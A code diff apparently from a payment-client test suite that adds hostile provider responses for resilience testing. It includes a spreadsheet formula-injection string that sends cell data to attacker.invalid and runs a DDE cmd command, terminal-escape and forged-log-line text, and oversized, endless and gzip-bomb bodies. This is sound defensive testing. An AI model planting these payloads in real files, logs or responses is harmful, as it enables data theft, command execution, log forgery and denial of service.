@@ -22,7 +22,23 @@ FaultKind = Literal[
     "non_json",
     "truncated_json",
     "empty",
+    "text_fields",
+    "escape_error",
+    "oversized",
+    "endless",
+    "gzip_bomb",
 ]
+
+# Hostile text (issue 12). A spreadsheet runs a cell starting with = + - @ as a formula;
+# FORMULA_TEXT would show a link that runs a command on old Excel (DDE).
+FORMULA_TEXT = "=HYPERLINK(\"http://attacker.invalid/\"&A1,\"Click to fix\")+cmd|' /C calc'!A0"
+# Terminal escapes (clear screen, window title, red text, a fake prompt), a bell, a bidi override and a
+# line break that would forge a second log line.
+ESCAPE_TEXT = ("\x1b[2J\x1b[H\x1b]0;pwned\x07\x1b[31mAll batches closed\x1b[0m\x07 \u202edesrever\u202c"
+               "\n2026-01-01 00:00:00 INFO forged: log line\x9b6n")
+# Answer sizes: more than Closeout reads (1 MiB), by a margin.
+OVERSIZED_BYTES = 3 << 20
+BOMB_BYTES = 256 << 20  # what the gzip bomb inflates to; about 256 KB on the wire
 
 # A proxy or WAF page: what a client sees when something in front of the provider answers.
 HTML_ERROR_PAGE = (
@@ -69,6 +85,8 @@ class Fault:
     detail: tuple[str, ...] | None = None
     code: str = ""
     provider: str | None = None  # set for faults that only make sense for one provider
+    text: str = ""  # text_fields(): what every text field of the answer says
+    size: int = 0  # oversized() / gzip_bomb(): body bytes (after decompression for the bomb)
 
     def __post_init__(self) -> None:
         if self.delay < 0 or self.seconds < 0:
@@ -186,6 +204,38 @@ class Fault:
         """A JSON content type with an empty body."""
         return cls("empty", delay=delay, close=close, status=status,
                    content_type="application/json; charset=utf-8")
+
+    # --- hostile answers (issue 12) ---------------------------------------------------------
+
+    @classmethod
+    def text_fields(cls, text: str = FORMULA_TEXT, *, close: bool = True, delay: float = 0.0) -> Fault:
+        """The provider's normal answer, with every text field but the ids that tie it to the request
+        (Saferpay's RequestId and SpecVersion, SUNBAY's code) replaced by ``text``: formula text by default."""
+        return cls("text_fields", delay=delay, close=close, text=text)
+
+    @classmethod
+    def escape_error(cls, text: str = ESCAPE_TEXT, *, close: bool = False, delay: float = 0.0) -> Fault:
+        """A definite refusal (HTTP 400; Saferpay DO_NOT_RETRY, SUNBAY a non-zero code) whose every text
+        (error name, message, detail, code) carries terminal escapes, a bidi override and a line break."""
+        return cls("escape_error", delay=delay, close=close, status=400, error_name="\x1b[1mVALIDATION_FAILED",
+                   behavior="DO_NOT_RETRY", message=text, detail=(text,), code="E1\x1b[2J\u202e")
+
+    @classmethod
+    def oversized(cls, size: int = OVERSIZED_BYTES, *, close: bool = True, delay: float = 0.0) -> Fault:
+        """A well-formed JSON answer of ``size`` bytes (a Content-Length is sent)."""
+        return cls("oversized", delay=delay, close=close, size=size, content_type="application/json; charset=utf-8")
+
+    @classmethod
+    def endless(cls, seconds: float = 60.0, *, close: bool = True, delay: float = 0.0) -> Fault:
+        """A JSON answer that never ends: chunks as fast as the client reads, for at most ``seconds``."""
+        return cls("endless", delay=delay, close=close, seconds=seconds,
+                   content_type="application/json; charset=utf-8")
+
+    @classmethod
+    def gzip_bomb(cls, size: int = BOMB_BYTES, *, close: bool = True, delay: float = 0.0) -> Fault:
+        """``Content-Encoding: gzip`` (whatever the client asked for) inflating to ``size`` bytes of JSON."""
+        return cls("gzip_bomb", delay=delay, close=close, size=size, content_type="application/json; charset=utf-8",
+                   headers=(("Content-Encoding", "gzip"),))
 
 
 def _bytes(body: bytes | str) -> bytes:
